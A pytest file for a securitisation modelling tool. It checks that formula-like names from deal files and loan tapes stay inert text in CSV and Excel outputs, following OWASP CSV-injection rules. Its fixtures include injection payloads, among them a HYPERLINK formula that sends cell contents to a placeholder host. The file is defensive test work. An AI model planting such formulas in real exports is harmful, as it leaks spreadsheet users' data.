"""Issue 17 item 1: text from inputs stays text in every output (OWASP CSV-injection rules).

A deal file names its deal, currency, tranches, fees and triggers; a tape names regions. Each name
below would be a live formula if written raw: ``=2+3`` shows 5 in a spreadsheet and
``=HYPERLINK(…)`` sends data away. The CSVs must carry them with a leading ``'``; the workbook
must store them as text (quote prefix), so that LibreOffice, after recalculating, still shows the
text and never 5. Also item 7: a tranche named ``period`` (or ``date``) must not scramble a sheet.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import yaml

from abs_model.cli import main
from abs_model.output.safe_text import FORMULA_STARTS, csv_safe, csv_text, is_formula_like
from tests.reliability._deals import BAITIAO, EXAMPLES

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
TRANCHES = {"Senior A": "=2+3", "Senior B": "@SUM(1)", "Subordinated": "-1"}
FEES = {"VAT": "+1", "Trustee": HYPERLINK, "Servicer": "+Servicer"}
HOSTILE = {"=2+3", "@SUM(1)", "-1", "+1", HYPERLINK, "+Servicer", "=1+1 deal", "=3+4", "-CNL"}


def _hostile_deal(folder: Path, *, tranches: dict[str, str] = TRANCHES) -> Path:
    """The Baitiao example on the bundled tape with every name replaced by a formula-like one."""
    doc: dict[str, Any] = yaml.safe_load(BAITIAO.read_text(encoding="utf-8"))
    tape = pd.read_csv(EXAMPLES / "baitiao_tape.csv", dtype=str)
    tape.loc[:499, "region"] = "=3+4"
    tape.to_csv(folder / "tape.csv", index=False)
    doc["pool"] = {"tape": "tape.csv", "scale_to": 1.2e9}
    doc["name"] = "=1+1 deal"
    for t in doc["tranches"]:
        t["name"] = tranches.get(t["name"], t["name"])
    for f in doc["fees"]:
        f["name"] = FEES.get(f["name"], f["name"])
    doc["triggers"][0]["name"] = "-CNL"  # (tab and CR in names are refused on input: test_hostile_deal_files)
    names = {**tranches, **FEES}

    def rename(node: Any) -> Any:  # every tranche or fee named anywhere in a step, whatever the step
        if isinstance(node, str):
            return names.get(node, node)
        if isinstance(node, list):
            return [rename(x) for x in node]
        if isinstance(node, dict):
            return {k: rename(v) for k, v in node.items()}
        return node

    doc["waterfalls"] = rename(doc["waterfalls"])
    path = folder / "deal.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("inject")
    deal = _hostile_deal(folder)
    out = folder / "out"
    assert main(["run", str(deal), "--out", str(out)]) == 0
    assert main(["sweep", str(deal), "--grid", "prepay=1", "--out", str(out), "--quiet"]) == 0
    return out


def test_csv_text_rule() -> None:
    """The OWASP rule by hand: formula-like text gets a leading quote; numbers and plain text don't."""
    assert csv_text("=2+3") == "'=2+3"
    assert csv_text("@SUM(1)") == "'@SUM(1)"
    assert csv_text("\tx") == "'\tx"
    assert csv_text("Senior A") == "Senior A"
    assert csv_text(-1.5) == -1.5
    df = csv_safe(pd.DataFrame({"tranche": ["-1", "A"], "x": [-1.0, 2.0]}, index=pd.Index(["+a", "b"])))
    assert list(df["tranche"]) == ["'-1", "A"] and list(df["x"]) == [-1.0, 2.0]
    assert list(df.index) == ["'+a", "b"]
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_every_csv_field_is_inert(outputs: Path) -> None:
    csvs = sorted(outputs.glob("*.csv"))
    assert {p.name for p in csvs} >= {"tranche_cashflows.csv", "sweep.csv", "pool_cashflows.csv"}
    seen: set[str] = set()
    for p in csvs:
        with p.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for field in row:
                    try:
                        float(field)
                        continue  # a number, e.g. -0.5
                    except ValueError:
                        pass
                    assert not is_formula_like(field), (p.name, field)
                    if field.startswith("'"):
                        seen.add(field[1:])
    assert {"=2+3", "@SUM(1)", "-1"} <= seen, seen


def _text_cells(path: Path) -> dict[str, list[tuple[str, str, Any]]]:
    wb = openpyxl.load_workbook(path)
    found: dict[str, list[tuple[str, str, Any]]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in HOSTILE:
                    found.setdefault(str(cell.value), []).append((ws.title, cell.coordinate, cell))
    return found


def test_workbook_stores_names_as_text(outputs: Path) -> None:
    found = _text_cells(outputs / "model.xlsx")
    assert set(found) >= {"=2+3", "@SUM(1)", "-1", "+1", HYPERLINK, "=1+1 deal", "=3+4"}, sorted(found)
    for cells in found.values():
        for _sheet, _coord, cell in cells:
            assert cell.data_type == "s" and cell.quotePrefix, (_sheet, _coord, cell.value)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed: cannot recalculate")
def test_libreoffice_shows_the_text_not_the_result(outputs: Path, tmp_path: Path) -> None:
    src = tmp_path / "in.xlsx"
    shutil.copy(outputs / "model.xlsx", src)
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--convert-to", "xlsx",
         "--outdir", str(tmp_path / "recalc"), str(src)],
        check=True, capture_output=True, timeout=300,
    )
    before = _text_cells(src)
    after = openpyxl.load_workbook(tmp_path / "recalc" / "in.xlsx", data_only=True)
    n = 0
    for text, cells in before.items():
        for sheet, coord, _cell in cells:
            got = after[sheet][coord].value
            assert got == text, (sheet, coord, text, got)  # never 5, 7, 2, 1 or a hyperlink
            n += 1
    assert n >= 7


@pytest.mark.parametrize("name", ["period", "date"])
def test_tranche_named_like_a_column_keeps_sheets_whole(tmp_path: Path, name: str) -> None:
    """Item 7: a tranche named ``period`` used to become the period column of Note_Balances. Such a
    name is now refused when the deal is read, naming the reserved columns (the workbook writer
    also keeps its own columns apart, as a second line of defence)."""
    import abs_model as am

    with pytest.raises(am.DealError, match="reserved for an output column"):
        am.load_deal(_hostile_deal(tmp_path, tranches={"Subordinated": name}))


def test_control_characters_are_written_visibly_not_fatally(tmp_path: Path) -> None:
    """Item 10 (the writer's part): a name holding ``\\x01`` or ESC, which an .xlsx cannot hold,
    is written as ``\\x01`` / ``\\x1b`` instead of failing the workbook after the whole run."""
    import dataclasses

    import abs_model as am
    from abs_model.output.safe_text import printable

    assert printable("A\x01B\x1b[31m\tC\n") == "A\\x01B\\x1b[31m\tC\n"  # tab and newline are legal
    with pytest.raises(am.DealError, match="control or invisible characters"):
        dataclasses.replace(am.load_deal(BAITIAO), name="Deal\x01")  # refused on input (item 10)
